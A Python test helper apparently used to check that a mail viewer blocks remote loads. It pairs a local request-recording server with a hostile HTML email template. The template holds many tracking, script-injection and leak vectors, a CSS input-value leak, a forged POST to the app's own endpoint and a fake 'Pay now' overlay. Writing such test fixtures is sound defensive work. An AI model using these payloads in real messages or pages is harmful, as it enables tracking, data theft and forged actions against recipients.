"""A stranger's server that counts what it is asked for, and mail that tries to have it asked."""

import socketserver
import threading
from collections.abc import Iterator
from contextlib import contextmanager


class Listener(socketserver.ThreadingTCPServer):
    """Notes what it is asked for, whatever that is."""

    daemon_threads = True

    def __init__(self) -> None:
        self.asked: list[bytes] = []
        super().__init__(("127.0.0.1", 0), Noting)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


class Noting(socketserver.StreamRequestHandler):
    server: Listener

    def handle(self) -> None:
        self.server.asked.append(self.rfile.readline(1000))
        self.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")


@contextmanager
def listening() -> Iterator[Listener]:
    server = Listener()
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def hostile(url: str, own: str) -> str:
    """HTML with what mail has been seen to try, each with an address of its own."""
    return f"""<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url={url}/refresh"><base href="{url}/base/"><title>x</title>
<link rel="stylesheet" href="{url}/css"><link rel="preload" as="image" href="{url}/preload">
<link rel="prefetch" href="{url}/prefetch"><link rel="icon" href="{url}/icon">
<script src="{url}/script"></script><script>top.ran = 1; parent.location = "{url}/parent"</script>
<style>@import "{url}/import"; @font-face {{ font-family: f; src: url({url}/font) }} body {{ font-family: f;
background: url({url}/background) }} input[value^=a] {{ background: url({url}/leak) }}</style></head>
<body onload="top.ran=1" background="{url}/body">
<img src="{url}/pixel" srcset="{url}/srcset 2x"><img src=x onerror="top.ran=1">
<picture><source srcset="{url}/source"><img></picture>
<svg onload="top.ran=1"><image href="{url}/svg" /><use href="{url}/use#a" /></svg>
<iframe src="{url}/frame"></iframe><iframe srcdoc="<script>top.ran=1</script>"></iframe>
<object data="{url}/object"></object><embed src="{url}/embed">
<video src="{url}/video" poster="{url}/poster" autoplay></video><audio src="{url}/audio" autoplay></audio>
<form id=f action="{own}/faults/clear" method=post><input autofocus onfocus="top.ran=1"><button>Press</button></form>
<a id=a href="{url}/link" target=_top ping="{url}/ping">A link</a> <a id=b href="javascript:top.ran=1">Another</a>
<a id=c href="{url}/blank" target=_blank>A window</a> <a id=d href="{url}/self" target=_self>A frame</a>
<div style="position:fixed;inset:0;background:url({url}/style)">Pay now</div><p>This is the end.</p></body></html>"""
